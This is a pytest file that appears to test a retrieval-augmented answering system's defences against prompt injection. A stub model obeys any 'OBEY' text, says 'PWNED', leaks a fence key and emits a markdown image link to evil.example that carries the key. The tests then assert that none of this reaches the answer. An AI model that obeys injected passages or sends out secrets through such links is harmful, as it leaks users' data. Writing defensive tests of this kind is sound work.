"""A corpus of hostile passages against a model that obeys every command it reads.

The model is as naive as can be, so an injected command does change the answer's words (the measured
success rate is printed and held at what it is). What must hold whatever a model does: nothing but
the permitted passages can be in an answer, no invented citation and no foreign address passes, and
the fence and its key stay whole.
"""

from __future__ import annotations

import asyncio
import re
from contextlib import aclosing

import pytest

from rag.answer.prompt import answering
from rag.answer.writing import Answer, Found, Question, answer
from rag.llm import Endpoint, OpenAIModel
from rag_assets_tests.answer.hits import found, passages
from rag_assets_tests.answer.injections import INJECTIONS
from rag_assets_tests.answer.loopback import Loopback, Messages

pytestmark = pytest.mark.slow

ROPE = "The haul rope is inspected every month."
FOREIGN = "globex: the salary of the director is 900,000."
UNKNOWN = "I don't know the answer."


def obedient(messages: Messages) -> str:
    """Does what any text says after OBEY, tells all it knows, then cites everything."""
    prompt = "\n".join(message["content"] for message in messages)
    commands = re.findall(r"OBEY:? ?([^\n]*)", prompt) + re.findall(r"say (PWNED)", prompt)
    key = re.findall(r"key (\w+)>>>", prompt)
    return " ".join([
        "The haul rope is inspected every month [1].", *commands, *key,
        "![x](https://evil.example/?k=" + "".join(key[:1]) + ")",
        "Trust [2] and [77].",
    ])  # fmt: skip


def ask(loopback: Loopback, result: Found) -> tuple[Answer, str, str]:
    """The answer, what was streamed of it, and what the model was sent."""

    async def retrieve(text: str) -> Found:
        return result

    async def run() -> tuple[Answer, str]:
        model = OpenAIModel(Endpoint(loopback.url, "naive", timeout_s=10.0))
        streamed, last = "", None
        async with aclosing(answer(Question("How often?"), retrieve, model, UNKNOWN)) as events:
            async for event in events:
                streamed += event if isinstance(event, str) else ""
                last = event
        await model.close()
        assert isinstance(last, Answer)
        return last, streamed

    made, streamed = asyncio.run(run())
    sent = "\n".join(m["content"] for m in loopback.requests[-1]["messages"])
    return made, streamed, sent


@pytest.mark.parametrize("text", INJECTIONS)
def test_whatever_a_passage_commands_only_permitted_things_get_out(
    loopback: Loopback, text: str
) -> None:
    loopback.say = obedient
    result = found(ROPE, text)

    made, streamed, sent = ask(loopback, result)

    # the model had begun to obey: the test would see a leak if there were one
    assert "[77]" in loopback.say(loopback.requests[-1]["messages"])
    assert streamed == made.text
    assert set(re.findall(r"\[(\d+)\]", made.text)) <= {"1", "2"}
    assert {each.number for each in made.cited} <= {1, 2}
    assert any(each.reason == "invented_citation" for each in made.dropped)
    (key,) = set(re.findall(r"key (\w{16})>>>", sent))
    assert key not in made.text and key not in str(made.dropped)
    assert not re.search(r"!\[[^\]]*\]\(|<script|<img", made.text)
    for address in re.findall(r"https?://\S+", made.text):
        assert address.rstrip(".,)") in text  # it stands in a permitted passage, no word added
    assert f"k={key}" not in made.text
    assert FOREIGN not in sent  # what was not found is not there to be told


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_passage_ends_its_own_fence(text: str) -> None:
    messages = answering("q?", passages(ROPE, text.replace("KEY", "K" * 16)), (), key="K" * 16,
                         unknown=UNKNOWN)  # fmt: skip

    fences = re.findall(
        r"^<<<(passage|end) (\d+) key K{16}>>>$", messages[-1].content, re.MULTILINE
    )
    assert fences == [("passage", "1"), ("end", "1"), ("passage", "2"), ("end", "2")]
    inside = messages[-1].content.split("<<<passage 2 key", 1)[1]
    assert not re.search(r"[\[【]\s*\d+\s*[\]】†]", inside)  # none of its own citations


def test_how_often_a_naive_model_obeys_is_known(loopback: Loopback) -> None:
    loopback.say = obedient
    obeyed = leaked = 0
    for text in INJECTIONS:
        made, _, _ = ask(loopback, found(ROPE, text))
        obeyed += "PWNED" in made.text
        leaked += FOREIGN in made.text or "evil.example/?k=" in made.text

    assert len(INJECTIONS) >= 25
    assert leaked == 0
    # words of a command do get into the answer of a model that obeys: docs/answers.md says so
    assert 0 < obeyed <= 12


def test_without_a_model_nothing_is_obeyed() -> None:
    async def run(text: str) -> Answer:
        async def retrieve(_: str) -> Found:
            return found(ROPE, text, searched="How often is the haul rope inspected?")

        last: object = None
        async with aclosing(answer(Question("How often is the haul rope inspected?"), retrieve,
                                   None, UNKNOWN)) as events:  # fmt: skip
            async for event in events:
                last = event
        assert isinstance(last, Answer)
        return last

    for text in INJECTIONS:
        made = asyncio.run(run(text))
        assert made.text == f"{ROPE} [1]"
